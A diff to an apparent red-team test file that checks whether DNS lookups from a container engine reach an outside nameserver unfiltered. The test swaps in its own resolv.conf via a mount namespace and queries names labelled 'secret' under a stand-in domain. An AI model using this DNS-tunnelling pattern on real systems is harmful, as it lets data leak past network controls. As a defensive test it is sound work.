@@ -9,7 +9,7 @@ import unittest
 from redteam import GATEWAYS, Attack, Redteam
 from paths import Heard, NameServer, look_up
 
-from engine import ENGINE_TREE, Engine  # pylint: disable=wrong-import-order
+from engine import Engine  # pylint: disable=wrong-import-order
 
 OUTSIDE = "198.41.0.4"
 FINDING = "lookups are not filtered"
@@ -24,17 +24,19 @@ class LookupsEngine(Engine):
         if name == "containerd":
             with open(self.path("resolv.conf"), "w", encoding="utf-8") as file:
                 file.write(f"nameserver {self.SERVER}\n")
-            mount = 'mount --bind "$0" /etc/resolv.conf && exec "$@"'
-            command = ["unshare", "--mount", "--propagation", "private", "--", "sh", "-c", mount, self.path("resolv.conf"), *command]
+            at = command.index("containerd")  # in the tree of another Engine, if there is one
+            command = [*command[:at], "unshare", "--mount", "--propagation", "private", "--", *self._with_file(), *command[at:]]
         elif name == "cofferdamd":  # it reads the file as well
-            command = [*self._in_tree(), *command]
+            command = ["unshare", "--mount", "--propagation", "private", "--", *self._with_file(), *command]
         return super().spawn(name, command, *more, **options)
+
+    def _with_file(self):
+        return ["sh", "-c", 'mount --bind "$0" /etc/resolv.conf && exec "$@"', self.path("resolv.conf")]
 
     def _in_tree(self):
         return ["nsenter", f"--mount=/proc/{self.containerd.process.pid}/ns/mnt", "--"]
 
 
-@unittest.skipIf(ENGINE_TREE, "the Engine has a root of its own")
 class Lookups(Redteam, unittest.TestCase):
     TITLE = "Names that are looked up"
     ENGINE = LookupsEngine
@@ -65,7 +67,7 @@ class Lookups(Redteam, unittest.TestCase):
             for number in range(3):
                 look_up(source, f"secret{number}.{attempt.mark.decode()}x.example", server, 0.3)
 
-        return Attack(name, source, send, lambda: Heard(hears), "ipv4", f"{source.name} -> {server}", sent=3)
+        return Attack(name, source, send, lambda: Heard(hears), "ipv4", f"{source.name} -> {server}", "no policy lets it")
 
     def test_attacks(self):
         """The channel that the rules cannot see is open, and known to be."""
